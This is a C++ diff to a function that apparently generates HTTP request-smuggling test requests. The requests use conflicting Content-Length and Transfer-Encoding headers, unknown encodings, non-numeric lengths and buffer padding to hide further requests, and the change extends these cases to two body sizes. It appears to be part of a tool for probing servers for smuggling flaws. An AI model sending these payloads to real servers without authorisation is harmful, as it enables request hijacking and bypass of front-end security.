@@ -36,12 +36,12 @@ std::vector<smuggling_attempt> smuggling_attempts(const std::string& target,
     };
     for (const std::size_t buffer : buffers) {
       // The head and the padding fill the buffer; then the hidden requests begin.
-      const std::string rest = body_of(hidden, 3 * hidden.size());
+      const std::string requests = body_of(hidden, 3 * hidden.size());
       std::string head = first_lines;
       const std::string about = length_line(std::string(buffer, ' '));
       if (head.size() + about.size() + 2 >= buffer) continue;
       const std::size_t padding = buffer - head.size() - about.size() - 2;
-      std::string body = std::string(padding, 'x') + rest;
+      std::string body = std::string(padding, 'x') + requests;
       if (length_line(body).size() != about.size()) body.insert(0, 1, 'x');
       head += length_line(body) + "\r\n";
       attempts.push_back(
@@ -50,27 +50,30 @@ std::vector<smuggling_attempt> smuggling_attempts(const std::string& target,
     const std::string body = body_of(hidden, std::size_t{64} << 10);
     attempts.push_back(
         {method + " with a body of 64 KiB", first_lines + length_line(body) + "\r\n" + body});
-    const std::string few = body_of(hidden, 1);
-    for (const std::string& lengths :
-         {"Content-Length: 0\r\n" + length_line(few), length_line(few) + "Content-Length: 0\r\n",
-          "Content-Length: 3\r\n" + length_line(few)}) {
+    // One arrives together with the head, the other does not.
+    for (const std::string& rest : {body_of(hidden, 1), body_of(hidden, 3 * buffers[4])}) {
+      for (const std::string& lengths : {"Content-Length: 0\r\n" + length_line(rest),
+                                         length_line(rest) + "Content-Length: 0\r\n",
+                                         "Content-Length: 3\r\n" + length_line(rest)}) {
+        attempts.push_back(
+            {method + " with two lengths", first_lines + lengths + "\r\n" + rest, true});
+      }
+      const std::string chunked = "0\r\n\r\n";
+      for (const std::string& lines :
+           {length_line(chunked + rest) + "Transfer-Encoding: chunked\r\n",
+            "Transfer-Encoding: chunked\r\n" + length_line(chunked + rest),
+            std::string("Transfer-Encoding: chunked\r\nContent-Length: 0\r\n"),
+            std::string("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n")}) {
+        attempts.push_back({method + " with a length and chunks",
+                            first_lines + lines + "\r\n" + chunked + rest, true});
+      }
+      attempts.push_back({method + " with an unknown encoding",
+                          first_lines + "Transfer-Encoding: xchunked\r\n\r\n" + rest, true});
       attempts.push_back(
-          {method + " with two lengths", first_lines + lengths + "\r\n" + few, true});
+          {method + " with a length that is no number",
+           first_lines + "Content-Length: +" + std::to_string(rest.size()) + "\r\n\r\n" + rest,
+           true});
     }
-    const std::string chunked = "0\r\n\r\n";
-    for (const std::string& lines :
-         {length_line(chunked + few) + "Transfer-Encoding: chunked\r\n",
-          "Transfer-Encoding: chunked\r\n" + length_line(chunked + few),
-          std::string("Transfer-Encoding: chunked\r\nContent-Length: 0\r\n"),
-          std::string("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n")}) {
-      attempts.push_back({method + " with a length and chunks",
-                          first_lines + lines + "\r\n" + chunked + few, true});
-    }
-    attempts.push_back({method + " with an unknown encoding",
-                        first_lines + "Transfer-Encoding: xchunked\r\n\r\n" + few, true});
-    attempts.push_back(
-        {method + " with a length that is no number",
-         first_lines + "Content-Length: +" + std::to_string(few.size()) + "\r\n\r\n" + few, true});
   }
   return attempts;
 }
